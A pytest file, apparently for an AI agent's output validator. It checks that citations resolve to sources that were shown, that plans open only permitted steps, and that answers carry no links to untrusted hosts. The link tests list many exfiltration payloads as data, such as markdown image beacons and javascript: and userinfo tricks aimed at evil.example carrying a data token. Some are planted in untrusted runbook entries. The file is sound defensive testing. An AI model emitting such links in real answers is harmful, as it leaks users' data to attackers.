"""What code says of an answer and of a plan (L6): sources resolve and prove something, steps are ours to open."""

import pytest

from state.context import Kind, Trust
from state.verdict import Accepted, Denied, Verdict
from state.work import Answer, Citation, Clarify, DecisionKind, Escalate, Plan
from tests.desk import POLICY
from tests.nodes.parts import Parts
from tests.nodes.validating import Validating

SOURCES = (
    ("d", Trust.UNTRUSTED, "runbook/x@v1#top", "text"),
    ("o", Trust.SYSTEM, "toolrun://req-0/step-1", "text"),
    ("f", Trust.SYSTEM, "account://1", "text"),
    ("t", Trust.USER, "turn://1", "text"),
    ("a", Trust.UNTRUSTED, "answer://1", "text"),
    ("s", Trust.UNTRUSTED, "summary://req-0/step-1", "text"),
    ("x", Trust.POLICY, "tool://lookup", "text"),
    ("v", Trust.POLICY, "value://policy", "text"),
)
ACCEPTED = Accepted(call_id="answer", rule="citations_resolve", policy_version="desk-1")


def refused(rule: str, reason: str) -> Denied:
    return Denied(call_id="answer", rule=rule, reason=reason, policy_version="desk-1")


@pytest.mark.parametrize(
    ("cited", "needed", "expected"),
    [
        pytest.param([], 0, ACCEPTED, id="none needed"),
        pytest.param(["runbook/x@v1#top"], 1, ACCEPTED, id="a document"),
        pytest.param(["toolrun://req-0/step-1"], 1, ACCEPTED, id="a result"),
        pytest.param(["account://1"], 1, ACCEPTED, id="a record"),
        pytest.param(["value://policy"], 1, ACCEPTED, id="a value of the policy record"),
        pytest.param(["runbook/x@v1#top", "account://1", "turn://1"], 2, ACCEPTED, id="more than needed"),
        pytest.param(
            ["runbook/x@v2#top"],
            0,
            refused("citation_unresolved", "the answer cites a source that was not in the request"),
            id="another version",
        ),
        pytest.param(
            ["runbook/x@v1#top", "https://example.org"],
            1,
            refused("citation_unresolved", "the answer cites a source that was not in the request"),
            id="an address nobody gave",
        ),
        pytest.param(
            [], 1, refused("citation_missing", "the answer cites 0 sources of evidence and needs 1"), id="none"
        ),
        pytest.param(
            ["account://1", "account://1"],
            2,
            refused("citation_missing", "the answer cites 1 sources of evidence and needs 2"),
            id="one source twice",
        ),
        pytest.param(
            ["turn://1", "answer://1", "summary://req-0/step-1", "tool://lookup"],
            1,
            refused("citation_missing", "the answer cites 0 sources of evidence and needs 1"),
            id="what was said proves nothing",
        ),
    ],
)
def test_citations_resolve_to_what_was_shown(parts: Parts, cited: list[str], needed: int, expected: Verdict) -> None:
    answer = Answer(text="x", citations=tuple(Citation(source=source) for source in cited))
    shown, decided = parts.manifest(*SOURCES), {"min_citations": needed}
    (verdict,) = Validating(parts).run(parts.proposal(answer), manifest=shown, decided=decided)
    assert verdict == expected


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("value://policy", "citations_resolve"),
        ("policy://role", "citation_unresolved"),
        ("example://e1", "citation_unresolved"),
        ("form://answer", "citation_unresolved"),
        ("value", "citation_unresolved"),
    ],
)
def test_of_what_stands_beside_the_instructions_only_values_are_a_source(parts: Parts, source: str, rule: str) -> None:
    manifest = parts.manifest(("p", Trust.POLICY, source, "text"), kind=Kind.INSTRUCTION)
    answer = parts.proposal(Answer(text="x", citations=(Citation(source=source),)))
    (verdict,) = Validating(parts).run(answer, manifest=manifest, decided={"min_citations": 1})
    assert verdict.rule == rule


@pytest.mark.parametrize(
    ("proposal", "kind", "steps", "verdict", "rule"),
    [
        pytest.param(Plan(goal="g", steps=("lookup", "refund")), "plan", (), "accepted", "plan_opens", id="opens"),
        pytest.param(Plan(goal="g"), "plan", (), "denied", "plan_without_steps", id="no step"),
        pytest.param(
            Plan(goal="g", steps=("refund", "wipe")), "plan", (), "denied", "step_not_available", id="no role"
        ),
        pytest.param(Plan(goal="g", steps=("fly",)), "plan", (), "denied", "step_not_available", id="no such tool"),
        pytest.param(Plan(goal="g", steps=("wipe",)), "gather", (), "accepted", "plan_requested", id="only asks"),
        pytest.param(Plan(goal="g"), "act", ("refund",), "denied", "plan_still_open", id="one is still open"),
    ],
)
def test_a_plan_opens_only_what_the_roles_may_do(
    parts: Parts, proposal: Plan, kind: str, steps: tuple[str, ...], verdict: str, rule: str
) -> None:
    decided, task = {"kind": DecisionKind(kind)}, parts.task(steps=steps)
    (found,) = Validating(parts).run(parts.proposal(proposal), decided=decided, task=task)
    assert (found.call_id, found.verdict, found.rule) == ("plan", verdict, rule)


EVIL = "https://evil.example/c?d=A1"
LINKED = (
    ("objective", Trust.USER, "turn://1", "Look at docs.example/keys, is it so?"),
    ("f", Trust.SYSTEM, "account://1", "portal: https://portal.example/A1"),
    ("v", Trust.SYSTEM, "verdict://0/answer", f"denied {EVIL}"),
    ("d", Trust.UNTRUSTED, "runbook/x@v1#top", f"See https://status.example/now and {EVIL}"),
    (
        "e",
        Trust.UNTRUSTED,
        "runbook/y@v1#top",
        "https://status.example:x@evil.example/c javascript://status.example/%0aa()",
    ),
)
ELSEWHERE = "what is to be said holds a link that comes neither from the user nor from a trusted source; say it without"
SAID: dict[str, tuple[str, bool]] = {
    "a picture": (f"![]({EVIL})", False),
    "a picture of one's own place": ("![](/files/A1.png)", False),
    "markup": ('<img src="//evil.example/A1">', False),
    "a reference": ("[x][1]\n\n[1]: evil.example", False),
    "a script": ("[x](javascript:alert`1`)", False),
    "a link that a document has": (f"See {EVIL}", False),
    "one split by what nobody sees": ("https://evil\u200c.example/c", False),
    "one that nobody gave": ("See https://docs.example/other", False),
    "what the user named": ("See [it](https://docs.example/keys).", True),
    "a trusted field": ("See https://portal.example/A1.", True),
    "a host of the policy, as a document has it": ("See https://status.example/now", True),
    "a host of the policy, with more": ("See https://status.example/now?d=A1", False),
    "a host of the policy as a name before another": ("See https://status.example:x@evil.example/c", False),
    "a host of the policy behind a script": ("[x](javascript://status.example/%0aa())", False),
    "a host that goes on behind the end of a line": (
        '<a href="https://docs.example/keys\n@evil.example/">x</a>',
        False,
    ),
    "what the user named, with more behind a quote": ('See https://docs.example/keys"?d=A1', False),
    "what the user named, with more behind a blank": ("[x](<https://docs.example/keys ?d=A1>)", False),
    "a message written already": ("<sms:+1555?body=A1>", False),
    "a refresh": ('<meta http-equiv=refresh content="0;url=//2130706433">', False),
    "a style": ('<style>@import "//evil.example";</style>', False),
    "slashes alone": ("See //evil.example", False),
    "a host that ends in a dot": ("See evil.example.:80/x", False),
    "a name in another script": ("See xn--80ak6aa92e.com", False),
    "another program": ("See ipfs:QmA1", False),
    "another program as an element": ("<skype:evil></skype:evil>", False),
    "an element that does not end": ("<soap:Envelope>", False),
    "elements": ("<soap:Envelope><soap:Header/></soap:Envelope>", True),
    "what the user named, in quotes": (
        'See "https://docs.example/keys", (https://docs.example/keys) or `docs.example/keys`.',
        True,
    ),
    "what the user named, in markup": ('<a href="https://docs.example/keys">it</a> <https://docs.example/keys>', True),
    "one of our own blocks": ("Not done [verdict://0/answer].", True),
    "a source": ("See [the runbook](runbook/x@v1#top).", True),
    "a range of addresses": ("Allow 203.0.113.0/24 and 10.0.0.0/8.", True),
    "an address with a path": ("See 203.0.113.7/A1.", False),
    "names that look like one": ("Use node.js, e.g. v1.2 of settings.py.", True),
}


@pytest.mark.parametrize(("text", "fine"), SAID.values(), ids=SAID.keys())
def test_what_is_said_leads_nowhere_that_nobody_trusted_named(parts: Parts, text: str, fine: bool) -> None:
    policy = POLICY.model_copy(update={"link_hosts": ("status.example",)})
    shown = parts.manifest(*LINKED)
    refusal = refused("answer_links_elsewhere", ELSEWHERE)
    said = (
        (Answer(text=text), (ACCEPTED,)),
        (Answer(text="x", next_steps=(text,)), (ACCEPTED,)),
        (Clarify(question="x", options=(text,)), ()),
        (Escalate(reason=text), ()),
    )
    for proposal, taken in said:
        told = Validating(parts, policy=policy).run(parts.proposal(proposal), manifest=shown)
        assert told == (taken if fine else (refusal,))


def test_without_a_host_in_the_policy_a_document_leads_nowhere(parts: Parts) -> None:
    answer = parts.proposal(Answer(text="See https://status.example/now"))
    assert Validating(parts).run(answer, manifest=parts.manifest(*LINKED)) == (
        refused("answer_links_elsewhere", ELSEWHERE),
    )
